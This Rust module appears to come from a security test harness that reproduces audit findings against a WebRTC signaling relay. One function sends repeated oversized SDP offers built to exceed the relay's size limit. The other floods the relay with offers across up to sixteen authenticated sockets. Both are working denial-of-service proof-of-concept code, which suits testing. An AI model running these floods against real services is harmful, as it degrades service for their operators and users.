//! Offers that cost the relay more than the guest.

use std::time::{Duration, Instant};

use serde_json::json;

use super::Target;
use crate::page::Page;
use crate::socket::Socket;

const PAUSE: Duration = Duration::from_millis(200);
/// As many sockets as a link may have.
const SOCKETS: usize = 16;

/// Finding 1: an offer that grows past the relay's limit when the host wraps it again.
pub(super) async fn long_offers(target: &Target, until: Instant) -> String {
    let sdp = ["a".repeat(8_354), "\"".repeat(8_030)].concat();
    let mut offers = 0;
    while Instant::now() < until {
        let Ok(mut socket) = entered(target).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        while Instant::now() < until {
            offers += 1;
            let offer =
                json!({ "topic": "signaling", "type": "offer", "attempt": offers, "sdp": sdp });
            if socket.say(offer).await.is_err() {
                break;
            }
            tokio::time::sleep(PAUSE).await;
        }
    }
    format!("{offers} offers")
}

/// Finding 13: as many good offers as the sockets of one link can send.
pub(super) async fn many_offers(target: &Target, until: Instant) -> String {
    let page = Page::new(None).await;
    let mut sockets = Vec::new();
    for _ in 0..SOCKETS {
        sockets.extend(entered(target).await);
    }
    let (mut offers, open) = (0, sockets.len());
    while Instant::now() < until && !sockets.is_empty() {
        offers += 1;
        let offer =
            json!({ "topic": "signaling", "type": "offer", "attempt": offers, "sdp": page.offer });
        let place = offers % sockets.len();
        if sockets[place].say(offer).await.is_err() {
            sockets.swap_remove(place);
        }
        // Each socket may send thirty messages a second.
        tokio::time::sleep(Duration::from_millis(2)).await;
    }
    format!("{offers} offers over {open} sockets")
}

async fn entered(target: &Target) -> Result<Socket, crate::socket::Cut> {
    let mut socket = Socket::dial(&target.base, &target.cookie, &target.session).await?;
    socket.enter("customer", false).await?;
    Ok(socket)
}
